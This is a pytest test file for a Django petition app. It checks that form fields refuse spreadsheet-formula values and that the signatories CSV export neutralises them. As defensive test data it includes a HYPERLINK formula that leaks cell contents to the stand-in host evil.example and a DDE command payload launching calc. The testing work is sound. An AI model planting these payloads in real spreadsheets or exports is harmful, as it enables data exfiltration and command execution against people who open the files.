"""CSV formula injection: a signer named =HYPERLINK(…) must not become a live formula
in signatories.csv (issue 12, section 3)."""

import csv
import io
import json
from typing import Any

import pytest
from django.test import Client

from tests.conftest import confirm_now
from undersigned.ops.management.commands.worker import run_once
from undersigned.outbox.models import OutgoingMail
from undersigned.petitions.forms import FounderForm
from undersigned.petitions.models import Petition
from undersigned.signing import services as signing
from undersigned.signing.models import Signature

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1;"Click to verify")'
FORMULAS = [FORMULA, "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0"]
FIELDS = ["full_name", "role", "municipality", "region"]


def form(**overrides: str) -> dict[str, str]:
    data = {"full_name": "Anna Belova", "email": "anna@example.org", "visibility": "show"}
    data.update(overrides)
    return data


def body(response: Any) -> str:
    return b"".join(response.streaming_content).decode()


@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("value", [*FORMULAS, "\t=1+1", " =1+1"])
def test_the_sign_form_refuses_a_field_a_spreadsheet_would_run(
    client: Client, petition: Petition, field: str, value: str
) -> None:
    response = client.post(f"/p/{petition.slug}/sign/", form(**{field: value}))
    assert response.status_code == 400
    assert "spreadsheets would read it as a formula" in response.content.decode()
    assert not Signature.objects.exists()
    assert not OutgoingMail.objects.exists()


def test_a_carriage_return_is_refused_too(client: Client, petition: Petition) -> None:
    response = client.post(f"/p/{petition.slug}/sign/", form(role="\r=1+1"))
    assert response.status_code == 400
    assert not Signature.objects.exists()


def test_the_refusal_is_translated(client: Client, petition: Petition) -> None:
    response = client.post(
        f"/p/{petition.slug}/sign/", form(full_name=FORMULA), HTTP_ACCEPT_LANGUAGE="ru"
    )
    assert response.status_code == 400
    assert "формул" in response.content.decode()


@pytest.mark.parametrize("field", FIELDS)
def test_the_founder_form_refuses_them(field: str) -> None:
    data = {"full_name": "Kseniya Lindstrem", "email": "k@example.org", field: FORMULA}
    founder = FounderForm(data)
    assert not founder.is_valid()
    assert "formula" in str(founder.errors[field])


@pytest.mark.parametrize("field", ["full_name", "role", "municipality", "region"])
def test_the_service_refuses_them_for_any_caller(petition: Petition, field: str) -> None:
    fields = {"full_name": "Anna Belova", field: "@SUM(A1)"}
    with pytest.raises(signing.SigningError, match="formula"):
        signing.sign(petition, signing.SignRequest(email="anna@example.org", **fields))
    assert not Signature.objects.exists()


def test_names_with_hyphens_and_signs_inside_are_fine(client: Client, petition: Petition) -> None:
    name = "Anna-Maria Belova-Smith"
    response = client.post(f"/p/{petition.slug}/sign/", form(full_name=name, role="deputy (+1)"))
    assert response.status_code == 302
    assert Signature.objects.get().full_name == name


def test_a_formula_already_in_the_log_is_text_in_the_csv_and_exact_in_the_json(
    client: Client, petition: Petition
) -> None:
    # Signed before the form refused such names (or written by any other path):
    # the entry in the log is what it is, and the export must still be safe.
    signature = signing.sign(
        petition, signing.SignRequest(full_name="Placeholder", email="evil@example.org")
    )
    Signature.objects.filter(pk=signature.pk).update(
        full_name=FORMULA, role="+7 999", municipality="Kolpino; =1+1", region="@x"
    )
    signature.refresh_from_db()
    confirm_now(signature)
    signing.sign(petition, signing.SignRequest(full_name="Vera Orlova", email="vera@example.org"))
    confirm_now(Signature.objects.get(email_hash=signing.email_hash("vera@example.org")))
    run_once()

    text = body(client.get(f"/p/{petition.slug}/signatories.csv"))
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["name"] == "'" + FORMULA
    assert rows[0]["role"] == "'+7 999"
    assert rows[0]["municipality"] == "Kolpino; '=1+1"
    assert rows[0]["region"] == "'@x"
    assert rows[1]["name"] == "Vera Orlova"
    # No line of the file has a cell that starts a formula, however it is split.
    for line in text.splitlines()[1:]:
        for cell in csv.reader([line]).__next__():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        for part in line.split(";")[1:]:
            assert not part.lstrip(' "').startswith(("=", "+", "-", "@"))

    data = json.loads(body(client.get(f"/p/{petition.slug}/signatories.json")))
    assert data["signatories"][0]["name"] == FORMULA
    assert data["signatories"][0]["municipality"] == "Kolpino; =1+1"
